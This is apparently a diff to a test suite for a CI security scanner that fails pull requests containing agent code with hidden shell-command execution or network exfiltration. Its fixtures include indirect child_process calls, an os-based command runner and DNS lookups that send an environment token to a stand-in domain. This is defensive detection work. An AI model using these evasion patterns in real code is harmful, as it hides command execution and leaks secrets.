@@ -195,6 +195,21 @@ vars(os)[sys.argv[2]]("${CMD}")
     ]);
   });
 
+  it("scan/shell-command: a container of child_process's members held by a name inside a function and called, or handed over whole, fails the built Action, where called or handed over", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/local.js"), `const cp = require("child_process");\nfunction go(i) {\n  const o = { run: cp.execSync };\n  o.run("${CMD}");\n  const l = [cp.execSync];\n  l[i]("${CMD}");\n}\n`);
+      writeFileSync(join(dir, "agent/handed.js"), `const cp = require("child_process");\nconst opts = { spawn: cp.spawn };\nsetup(opts);\nconst tools = [cp.exec];\nagent.run(tools);\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/shell-command agent/handed.js 3 7",
+      "scan/shell-command agent/handed.js 5 11",
+      "scan/shell-command agent/local.js 4 3",
+      "scan/shell-command agent/local.js 6 3",
+    ]);
+  });
+
   it("scan/network-call: a DNS lookup carrying data out (Node's dns, dns/promises and Resolver; an event loop's getaddrinfo, dnspython) fails the built Action, at the call", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/lookup.js"), `const dns = require("dns");\nconst secret = process.env.TOKEN;\ndns.lookup(\`\${secret}.x.example\`, () => {});\nrequire("dns/promises").resolveTxt(\`\${secret}.x.example\`);\nnew dns.Resolver().resolve4(\`\${secret}.x.example\`, () => {});\n`);
